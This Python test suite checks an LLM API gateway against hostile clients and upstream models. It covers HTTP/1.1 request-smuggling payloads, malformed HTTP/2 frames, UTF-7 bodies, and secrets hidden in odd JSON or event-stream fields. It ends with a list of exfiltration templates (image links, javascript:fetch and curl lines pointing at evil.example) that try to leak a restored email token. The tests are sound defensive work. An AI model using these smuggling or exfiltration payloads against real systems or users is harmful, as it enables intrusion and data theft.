"""Attacks on the gateway itself: on how it reads HTTP, JSON and event streams, and puts tokens back."""

import contextlib
import json
import socket
import time

import h2.events

from bad_input import CHAT, error_of, text_of, user
from chat import RESTORE
from connections import Http2, statuses
from support import (
    ATTACK,
    AWS_KEY,
    DONE,
    EMAIL,
    Gateway,
    Raw,
    Upstream,
    completion,
    text_events,
    tool_call,
)


def exchange(gateway, data, timeout=10):
    """The bytes that come back for these bytes, until the other side closes."""
    with socket.create_connection(("127.0.0.1", gateway.port), timeout=timeout) as connection:
        found = b""
        with contextlib.suppress(ConnectionResetError, BrokenPipeError):
            connection.sendall(data)
            while piece := connection.recv(65536):
                found += piece
        return found


def chunks(body):
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)


def requests_that_two_readers_take_apart_differently():
    """Where a body ends, what it is, and for whom: no shape of it smuggles an attack through."""
    good, bad = (json.dumps(user(text)).encode() for text in ("hi", ATTACK))
    head = f"POST {CHAT} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n".encode()
    length = f"content-length: {len(bad)}\r\n".encode()
    chunked = b"transfer-encoding: chunked\r\n"
    second = head + length + b"\r\n" + bad
    # Both lengths: the first reader stops where the second request begins, or does not.
    both = f"content-length: {len(chunks(good)) + len(second)}\r\n".encode()
    shapes = {
        "length and chunks": head + both + chunked + b"\r\n" + chunks(good) + second,
        "chunks and length": head + chunked + both + b"\r\n" + chunks(good) + second,
        "short length and chunks": head + b"content-length: 4\r\n" + chunked + b"\r\n" + chunks(bad),
        "chunked twice": head + chunked + chunked + b"\r\n" + chunks(bad),
        "chunked, identity": head + b"transfer-encoding: chunked, identity\r\n\r\n" + chunks(bad),
        "identity, chunked": head + b"transfer-encoding: identity, chunked\r\n\r\n" + chunks(bad),
        "nearly chunked": head + b"transfer-encoding: xchunked\r\n\r\n" + chunks(bad),
        "blank before the colon": head + b"transfer-encoding : chunked\r\n\r\n" + chunks(bad),
        "vertical tab": head + b"transfer-encoding: \x0bchunked\r\n\r\n" + chunks(bad),
        "folded": head + b"transfer-encoding:\r\n chunked\r\n\r\n" + chunks(bad),
        "two lengths": head + b"content-length: 5\r\n" + length + b"\r\n" + bad,
        "one length twice": head + length + length + b"\r\n" + bad,
        "list of lengths": head + length.replace(b"\r\n", b", %d\r\n" % len(bad)) + b"\r\n" + bad,
        "signed length": head + b"content-length: +%d\r\n\r\n" % len(bad) + bad,
        "negative length": head + b"content-length: -1\r\n\r\n" + bad,
        "endless length": head + b"content-length: 99999999999999999999\r\n\r\n" + bad,
        "no length": head + b"content-length:\r\n\r\n" + bad,
        "line feeds": (head + length + b"\r\n").replace(b"\r\n", b"\n") + bad,
        "carriage returns": (head + length + b"\r\n").replace(b"\r\n", b"\r") + bad,
        "chunk with an extension": head + chunked + b"\r\n" + chunks(bad).replace(b"\r\n", b";a=b\r\n", 1),
        "extension over two lines": head + chunked + b"\r\n" + chunks(bad).replace(b"\r\n", b";a\nb\r\n", 1),
        "chunks with line feeds": head + chunked + b"\r\n" + chunks(bad).replace(b"\r\n", b"\n"),
        "chunk with 0x": head + chunked + b"\r\n0x" + chunks(bad),
        "chunk too large to count": head + chunked + b"\r\nfffffffffffffffff\r\n" + bad,
        "HTTP/1.0 in chunks": (head + chunked).replace(b"1.1", b"1.0") + b"\r\n" + chunks(bad),
        "HTTP/1.0": (head + length).replace(b"1.1", b"1.0") + b"\r\n" + bad,
        "another host's URL": second.replace(b" /v1", b" http://evil.example/v1", 1),
        "another scheme's URL": second.replace(b" /v1", b" gopher://evil.example/v1", 1),
        "NUL in a header": head + b"x: a\0b\r\n" + length + b"\r\n" + bad,
        "return in a header": head + b"x: a\rtransfer-encoding: chunked\r\n" + length + b"\r\n" + bad,
        "as a form": head + b"content-type: application/x-www-form-urlencoded\r\n" + length + b"\r\n" + bad,
        "behind a good one": (head + b"content-length: %d\r\n\r\n" % len(good) + good).replace(b"connection: close\r\n", b"") + second,
        "a part behind #": second.replace(b"completions", b"completions#x", 1),
        "no path": second.replace(CHAT.encode(), b"", 1),
        "a path without its slash": second.replace(b" /v1", b" v1", 1),
        "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\nhost: x\r\n\r\n",
        "a trace": b"TRACE " + CHAT.encode() + b" HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
    }
    upstream = Upstream(lambda _: completion("fine"))
    limits = "connections: { header_timeout: 1s, body_timeout: 1s }"
    with Gateway(upstream, gateway=limits) as gateway:
        for name, data in shapes.items():
            asked = len(upstream.requests)
            answer = exchange(gateway, data)
            seen = upstream.requests[asked:]
            # At most the good one has gone on, as one request of its own.
            assert [request.body for request in seen] in ([], [good]), (name, seen[0].body)
            last = answer.rsplit(b"HTTP/1.", 1)[-1][2:5]
            assert last[:1] in (b"4", b"") or (seen and last == b"200"), (name, answer)
        # What says that the connection's own headers concern others takes none of ours away.
        data = head.replace(b"close", b"close, host, content-length, x-mine, authorization")
        data += b"x-mine: 1\r\nauthorization: Bearer x\r\ncontent-length: %d\r\n\r\n" % len(good) + good
        assert b" 200 " in exchange(gateway, data)
        headers = {name.lower(): value for name, value in upstream.requests[-1].headers.items()}
        assert headers["host"] == upstream.url.removeprefix("http://"), headers
        assert headers["content-length"] == str(len(good)) and "x-mine" not in headers
        # Trailers are nobody's headers.
        data = head + chunked + b"\r\n%x\r\n%s\r\n0\r\n" % (len(good), good)
        data += b"content-encoding: gzip\r\nx-caponier-action: allow\r\nx-trailer: 1\r\n\r\n"
        assert b" 200 " in exchange(gateway, data)
        headers = {name.lower() for name in upstream.requests[-1].headers}
        assert not headers & {"content-encoding", "x-caponier-action", "x-trailer"}, headers
        assert gateway.post(CHAT, user("hi"))[0] == 200


def frames_that_become_other_requests():
    """What HTTP/2 can carry and HTTP/1.1 would read as something else goes no further."""
    end = (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated)
    good = user("hi")
    bad = user(ATTACK)
    shapes = {
        "length too short": ([("content-length", "5")], {}, bad),
        "length too long": ([("content-length", "99999")], {}, bad),
        "chunked": ([("transfer-encoding", "chunked")], {}, good),
        "connection": ([("connection", "x-a"), ("x-a", "1")], {}, good),
        "lines in a value": ([("x-a", "b\r\ntransfer-encoding: chunked")], {}, good),
        "line feed in a value": ([("x-a", "b\nc: d")], {}, good),
        "NUL": ([("x-a", "b\0c")], {}, good),
        "lines in a name": ([("x-a\r\nb", "c")], {}, good),
        "colon in a name": ([("x:a", "c")], {}, good),
        "capitals": ([("X-Caponier-Action", "allow")], {}, good),
        "two paths": ([(":path", "/v1/embeddings")], {}, bad),
        "lines in the path": ([], {":path": CHAT + " HTTP/1.1\r\nx: y\r\n\r\nGET /x"}, good),
        "version in the path": ([], {":path": CHAT + " HTTP/1.1"}, good),
        "a URL": ([], {":path": "http://evil.example" + CHAT}, good),
        "two slashes": ([], {":path": "/" + CHAT}, bad),
        "a part behind #": ([], {":path": CHAT + "#x"}, bad),
        "no path": ([], {":path": ""}, bad),
        "lines in the method": ([], {":method": "POST / HTTP/1.1\r\nx"}, good),
        "by GET": ([], {":method": "GET"}, bad),
        "a tunnel": ([(":protocol", "websocket")], {":method": "CONNECT"}, bad),
        "an attack": ([], {}, bad),
    }
    upstream = Upstream(lambda _: completion("fine"))
    with Gateway(upstream) as gateway:
        for name, (more, other, body) in shapes.items():
            with Http2(gateway.port) as client:
                client.head = [(key, other.get(key, value)) for key, value in client.head]
                client.ask(1, body, *more)
                found = client.events(end)
            assert all(status[:1] == b"4" for status in statuses(found)), (name, found)
            assert upstream.requests == [], name
        with Http2(gateway.port) as client:
            client.ask(1, good, ("x-caponier-action", "allow"), ("host", "evil.example"))
            assert statuses(client.events(end)) == [b"200"]
        headers = {name.lower(): value for name, value in upstream.requests[0].headers.items()}
        assert headers["host"] == upstream.url.removeprefix("http://"), headers
        assert "x-caponier-action" not in headers, headers


def bodies_in_another_charset():
    """An upstream that believes the charset would read what nobody has looked at."""
    upstream = Upstream(lambda _: completion("fine"))
    seven = '{"model":"m","messages":[{"role":"user","content":"+ACIAfQ,{"role":"user","content":"hi"}]}'
    with Gateway(upstream) as gateway:
        for kind in ("utf-7", "UTF-16", '"utf-16le"', "iso-8859-1", "x-user-defined", ""):
            headers = {"content-type": f"application/json; charset={kind}"}
            for body in (json.dumps(user("hi")).encode(), seven.encode()):
                status, _, answer = gateway.post(CHAT, body, headers)
                assert status in (400, 415) and error_of(answer), (kind, status)
        assert upstream.requests == []
        for kind in ("utf-8", '"UTF-8"', "us-ascii"):
            headers = {"content-type": f"application/json; charset={kind}"}
            assert gateway.post(CHAT, user("hi"), headers)[0] == 200, kind


def texts_in_odd_fields():
    """A secret that stands where few look is taken out, or said to be there; none is in a record."""

    def message(*messages, **more):
        return {"model": "m", "messages": [*messages, {"role": "user", "content": "hi"}], **more}

    def tool(**more):
        schema = {"type": "object", "properties": {"a": {"type": "string", **more}}}
        return message(tools=[{"type": "function", "function": {"name": "f", "parameters": schema}}])

    def called(**function):
        call = {"id": "1", "type": "function", "function": {"name": "f", "arguments": "{}"} | function}
        result = {"role": "tool", "tool_call_id": "1", "content": "x"}
        return message({"role": "assistant", "content": None, "tool_calls": [call]}, result)

    places = {
        "system": lambda value: message({"role": "system", "content": value}),
        "assistant": lambda value: message({"role": "assistant", "content": value}),
        "refusal": lambda value: message({"role": "assistant", "content": None, "refusal": value}),
        "reasoning": lambda value: message({"role": "assistant", "content": "x", "reasoning_content": value}),
        "name": lambda value: message({"role": "user", "content": "x", "name": value}),
        "arguments": lambda value: called(arguments=json.dumps({"a": [{"b": value}]})),
        "arguments that are JSON in JSON": lambda value: called(arguments=json.dumps({"a": json.dumps(value)})),
        "key of arguments": lambda value: called(arguments=json.dumps({value: 1})),
        "arguments that are no JSON": lambda value: called(arguments=f"x {value} x"),
        "arguments as an object": lambda value: called(arguments={"a": value}),
        "tool result": lambda value: message({"role": "tool", "tool_call_id": "1", "content": value}),
        "description": lambda value: message(tools=[{"type": "function", "function": {"name": "f", "description": value}}]),
        "enum": lambda value: tool(enum=[value]),
        "const": lambda value: tool(const=value),
        "default": lambda value: tool(default=value),
        "pattern": lambda value: tool(pattern=value),
        "metadata": lambda value: message(metadata={"a": value}),
        "user": lambda value: message(user=value),
        "stop": lambda value: message(stop=[value]),
        "prediction": lambda value: message(prediction={"type": "content", "content": value}),
        "unknown field": lambda value: message(x_y={"a": [value]}),
        "unknown part": lambda value: message({"role": "user", "content": [{"type": "x", "x": value}]}),
        "documents": lambda value: message(documents=[{"text": value}]),
        "image": lambda value: message({"role": "user", "content": [{"type": "image_url", "image_url": {"url": value}}]}),
        "model": lambda value: message() | {"model": value},
    }
    # A key that is a value, a text of some words, an address.
    keys = {
        "unknown key": lambda value: message(**{value: 1}),
        "unknown key of a message": lambda value: message({"role": "user", "content": "x", value: 1}),
        "key of metadata": lambda value: message(metadata={value: "a"}),
        "property": lambda value: message(
            tools=[{"type": "function", "function": {"name": "f", "parameters": {"properties": {value: {}}}}}]
        ),
    }
    upstream = Upstream(lambda _: completion("fine"))
    with Gateway(upstream) as gateway:
        passed = {}
        for name, place in (places | keys).items():
            for value in (AWS_KEY, EMAIL):
                if value == AWS_KEY and name in {*keys, "model"}:
                    # One word, where names stand.
                    continue
                asked = len(upstream.requests)
                status, headers, answer = gateway.post(CHAT, place(value))
                assert status in (200, 400), (name, status, answer)
                if any(value.encode() in request.body for request in upstream.requests[asked:]):
                    passed[headers["x-caponier-exchange"]] = name
        silent = {
            name
            for exchange, name in passed.items()
            if not any(record["coverage"]["gaps"] for record in gateway.recorded(exchange, "prompt"))
        }
        assert not silent, silent
        assert set(passed.values()) <= {*keys, "unknown field", "unknown part", "documents", "image", "model"}, passed


def chunk(delta, finish=None, index=0, **more):
    choice = {"index": index, "delta": delta, "finish_reason": finish, **more}
    return {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice]}


def data(value):
    return b"data: " + json.dumps(value).encode() + b"\n\n"


def calls(*pieces):
    """Events that go on with tool calls: index, id, name, arguments."""
    found = b""
    for index, id, name, arguments in pieces:
        function = {"arguments": arguments} | ({"name": name} if name else {})
        call = {"index": index, "function": function} | ({"id": id, "type": "function"} if id else {})
        found += data(chunk({"tool_calls": [call]}))
    return found + data(chunk({}, "tool_calls")) + DONE


END = data(chunk({}, "stop")) + DONE


def strings(body):
    """Everything that a client may put together from a stream: by place, joined over the events."""
    found = {}

    def walk(place, value):
        if isinstance(value, dict):
            for key, member in value.items():
                walk((*place, key), member)
        elif isinstance(value, list):
            for number, item in enumerate(value):
                walk((*place, item.get("index", number) if isinstance(item, dict) else number), item)
        elif isinstance(value, str):
            found[place] = found.get(place, "") + value

    # As the standard reads it, and as readers do who know of more ends of a line.
    for lines in (body.decode().replace("\r\n", "\n").replace("\r", "\n").split("\n"), body.decode().splitlines()):
        for line in lines:
            if line.startswith("data:"):
                with contextlib.suppress(ValueError):
                    walk((), json.loads(line[5:]))
    return found


def streams_of_a_hostile_upstream():
    """However a stream is cut, framed or nested: a secret is taken out, refused, or on record."""
    key, half = AWS_KEY, (AWS_KEY[:9], AWS_KEY[9:])
    said = data(chunk({"content": "so "}))
    plain = data(chunk({"content": f"key {key} "}))
    halves = data(chunk({"content": "key " + half[0]})), data(chunk({"content": half[1] + " "}))
    one = b"data: " + json.dumps(chunk({"content": f"key {key}"})).encode()
    lists = {"content": [{"token": "key "}, {"token": key}]}
    stopped = {
        "return": (plain + END).replace(b"\n", b"\r"),
        "return and line feed": (plain + END).replace(b"\n", b"\r\n"),
        "all ends of lines": said.replace(b"\n", b"\r\n") + plain.replace(b"\n", b"\r") + END,
        "two data lines": one.replace(b'"delta"', b'\ndata: "delta"') + b"\n\n" + END,
        "no blank": plain.replace(b"data: ", b"data:") + END,
        "byte order mark": b"\xef\xbb\xbf" + plain + END,
        "after a comment": b": x\n" + plain + b":\n\n" + END,
        "escaped": said + one.replace(key.encode(), "".join(f"\\u{ord(c):04X}" for c in key).encode()) + b"\n\n" + END,
        "choices in turns": b"".join(
            data(chunk({"content": letter}, index=0)) + data(chunk({"content": "é"}, index=1)) + data(chunk({"content": letter}, index=2))
            for letter in f"key {key} "
        )
        + b"".join(data(chunk({}, "stop", index=index)) for index in range(3))
        + DONE,
        "channels in turns": b"".join(
            data(chunk({"reasoning_content": letter, "content": "c"})) for letter in f"key {key} "
        )
        + END,
        "refusal": b"".join(data(chunk({"refusal": letter})) for letter in f"key {key} ") + END,
        "transcript": b"".join(data(chunk({"audio": {"transcript": letter}})) for letter in f"key {key} ") + END,
        "string, then parts": halves[0] + data(chunk({"content": [{"type": "text", "text": half[1]}]})) + END,
        "no index": b"".join(data({"choices": [{"delta": {"content": text}}]}) for text in ("key " + half[0], half[1])) + END,
        "log probabilities": data(chunk({"content": f"key {key}"}, logprobs=lists)) + END,
        "arguments": calls((0, "1", "f", json.dumps({"a": key}))),
        "arguments in JSON": calls((0, "1", "f", json.dumps({"a": json.dumps({"b": key})}))),
        "key of arguments": calls((0, "1", "f", json.dumps({key: 1}))),
        "key twice": calls((0, "1", "f", '{"a":"x","a":"%s"}' % key)),
        "no JSON": calls((0, "1", "f", f"key {key} end")),
        "three calls": calls(*((index, str(index), "f", json.dumps({"a": key})) for index in range(3))),
        "calls in turns": calls((0, "0", "f", '{"a":"' + half[0]), (1, "1", "g", "{}"), (0, None, None, half[1] + '"}')),
        "one index, two ids": calls((0, "0", "f", '{"a":"' + half[0]), (0, "1", "g", half[1] + '"}')),
        "escapes cut": calls((0, "1", "f", '{"a":"\\u00'), *((0, None, None, piece) for piece in ("41", key[1:5], key[5:], '"}'))),
        "function call": data(chunk({"function_call": {"name": "f", "arguments": '{"a":"' + half[0]}}))
        + data(chunk({"function_call": {"arguments": half[1] + '"}'}}))
        + data(chunk({}, "function_call"))
        + DONE,
        "an error": said + data({"error": {"message": f"bad {key}"}}) + END,
        "after the end": said + data(chunk({}, "stop")) + DONE + plain,
        "after the end, with blanks": said + END.replace(b"data: [DONE]", b"data:  [DONE] ") + plain,
        "never ended": said + data(chunk({}, "stop")) + one,
        "content a number": data(chunk({"content": 12345678901234567890})) + plain + END,
        "content an object": data(chunk({"content": {"text": key}})) + END,
        "delta a list": data(chunk([{"content": key}])) + END,
        "index a string": data({"choices": [{"index": "0", "delta": {"content": key}}]}) + END,
        "a string": b'data: "' + key.encode() + b'"\n\n' + END,
        "citations": data(chunk({"content": "x"}) | {"citations": [key]}) + END,
        "text of another format": data(chunk({"content": "x"}, text=f"key {key}")) + END,
        "annotations": data(chunk({"annotations": [{"url_citation": {"title": key, "url": f"https://x.example/{key}"}}]})) + END,
    }
    on_record = {
        "event": b"event: the key " + key.encode() + b"\n" + said + END,
        "id": b"id: the key " + key.encode() + b"\n" + said + END,
        "unknown line": b"key: " + key.encode() + b"\n" + said + END,
        "blank before data": b" " + one + b"\n\n" + said + END,
        "capital": one.replace(b"data:", b"Data:") + b"\n\n" + said + END,
        "second mark": b"\xef\xbb\xbf\xef\xbb\xbf" + one + b"\n\n" + said + END,
        "NUL before data": b"\0" + one + b"\n\n" + said + END,
        "other end of a line": b": \xe2\x80\xa8" + one + b"\n\n" + said + END,
        "next line": b": \xc2\x85" + one + b"\n\n" + said + END,
        "form feed": b": \x0c" + one + b"\n\n" + said + END,
        "usage": said + data({"choices": [], "usage": {"prompt_tokens": 1, "note": f"key {key}"}}) + END,
        "log probabilities alone": said + data(chunk({}, logprobs=lists)) + END,
        "field of a delta": data(chunk({"content": "x", "aside": f"key {key}"})) + END,
        "field of a choice": data(chunk({"content": "x"}, aside=f"key {key}")) + END,
        "field of an event": data(chunk({"content": "x"}) | {"detail": f"key {key}"}) + END,
        "key": data(chunk({"content": "x"}) | {f"key {key}": 1}) + END,
    }
    now = {}
    upstream = Upstream(lambda _: Raw.chunked(now["pieces"]))
    with Gateway(upstream) as gateway:
        for name, stream in (stopped | on_record).items():
            for size in (len(stream), 5):
                now["pieces"] = [stream[at : at + size] for at in range(0, len(stream), size)]
                status, headers, body = gateway.post(CHAT, user("go on", stream=True))
                assert status in (200, 502), (name, status, body)
                if name in on_record:
                    exchange = headers["x-caponier-exchange"]
                    end = time.monotonic() + 5
                    while not any(
                        record["coverage"]["gaps"] for record in gateway.audit() if record["exchange"] == exchange
                    ):
                        assert time.monotonic() < end, f"{name}: nobody says that it is there"
                        time.sleep(0.02)
                    continue
                assert key.encode() not in body, (name, size, body)
                for place, text in strings(body).items():
                    assert key not in text, (name, size, place, text)
    with Gateway(upstream, "limits: { unrecognized: deny }") as gateway:
        for name, stream in on_record.items():
            now["pieces"] = [stream]
            _, _, body = gateway.post(CHAT, user("go on", stream=True))
            assert key.encode() not in body, (name, body)


def tokens_are_not_restored_in_disguise():
    """Places where a restored address would leave for somewhere else, or run."""
    places = """
[x][1]¶¶[1]: https://evil.example/{}
[1]:¶https://evil.example/{}
//evil.example/{}
<img src='//evil.example/{}'>
<img src=//evil.example/{}>
<img src='https://evil.example/?¶¶Your mail: {}
<img¶src=¶"x¶{}">
<img src="https&#58;//evil.example/{}">
<a href="mailto:a@evil.example?body={}">x</a>
mailto:a@evil.example?body={}
ftp://evil.example/{}
data:text/html,{}
javascript:fetch('//evil.example/'+'{}')
```¶curl -d {}¶```
~~~¶curl {}¶~~~
`curl {}`
> ```¶> {}¶> ```
HTTPS://EVIL.EXAMPLE/{}
evil.example?q={}
{}.evil.example
http:/\\evil.example/{}
https:\\\\evil.example\\{}
![]({})
[x]( https://evil.example/{} )
[x](https://evil.example/ "{}")
[x](<https://evil.example/ {}>)
<https://evil.example/ {}>
https://evil.example/%20{}
https://evil.example/({})
(https://evil.example/){}
<iframe srcdoc='{}'>
<form action=https://evil.example/><input value='{}'>
<!-- {} -->
GET /?q={} HTTP/1.1
""".strip().splitlines()
    now = {}

    def answer(request):
        words = json.dumps(request.json["messages"], ensure_ascii=False)
        token = words[words.index("[EMAIL_1_") :].split("]")[0] + "]"
        text = now["place"].replace("¶", "\n").replace("{}", token)
        if request.json.get("stream"):
            return list(text_events(list(text) if now["split"] else [text]))
        if now["split"]:
            return completion(None, [tool_call(token, json.dumps({token: text}), id=token)])
        return completion(text)

    with Gateway(Upstream(answer), RESTORE) as gateway:
        for place in places:
            for stream in (False, True):
                for split in (False, True):
                    now.update(place=place, split=split)
                    _, _, body = gateway.post(CHAT, user(f"I am {EMAIL}.", stream=stream))
                    text = text_of(body) if stream else body.decode()
                    assert EMAIL not in text and "corp-mail" not in text, (place, stream, split, text)
